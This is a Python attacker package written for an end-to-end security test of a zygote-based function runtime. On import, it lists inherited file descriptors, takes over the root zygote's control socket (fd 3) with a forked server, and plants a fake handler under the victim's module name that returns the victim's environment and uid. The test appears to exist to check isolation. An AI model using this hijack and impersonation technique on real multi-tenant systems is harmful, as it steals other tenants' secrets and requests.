# The attacker's package for e2e/attack_test.go: its import code runs in
# a zygote node (a fork of the root zygote), as any package's would.
#
# REPORT says what the node holds that it should not: descriptors it
# inherited from the zygote it was forked from. If one of them is a
# control socket to the worker (the root zygote's fd 3), a daemon forked
# here serves it with the zygote's own server loop (__main__.serve), so
# that every request it takes from the worker (a fork or a spare for any
# function that starts from the root zygote) is served by a child of this
# package's node; a handler module planted under the victim's module
# name ("f") answers in the victim's place with its environment and uid.
import os
import socket
import sys
import types

STOLEN = "hearth-attack-stolen"
REPORT = {"fds": {}, "thief": "not started"}


def _fds():
    out = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            out[name] = os.readlink("/proc/self/fd/" + name)
        except OSError as e:
            out[name] = "error " + e.strerror
    return out


def _fake_handler(event, context=None):
    return {"stolen_by": STOLEN, "env": dict(os.environ), "uid": os.getuid()}


def _start_thief():
    main = sys.modules.get("__main__")
    if not hasattr(main, "serve"):
        REPORT["thief"] = "no zygote server in __main__"
        return
    try:
        s = socket.socket(fileno=os.dup(3))
    except OSError as e:
        REPORT["thief"] = "fd 3: " + e.strerror
        return
    if s.type != socket.SOCK_SEQPACKET:
        REPORT["thief"] = "fd 3 is not a control socket (type %d)" % s.type
        s.detach()
        return
    pid = os.fork()
    if pid == 0:
        try:
            fake = types.ModuleType("f")
            fake.f = _fake_handler
            sys.modules["f"] = fake
            main.serve(s)
        finally:
            os._exit(0)
    s.close()
    REPORT["thief"] = "serving fd 3 (pid %d)" % pid


if "HEARTH_FUNCTION" not in os.environ:
    REPORT["fds"] = _fds()
    _start_thief()
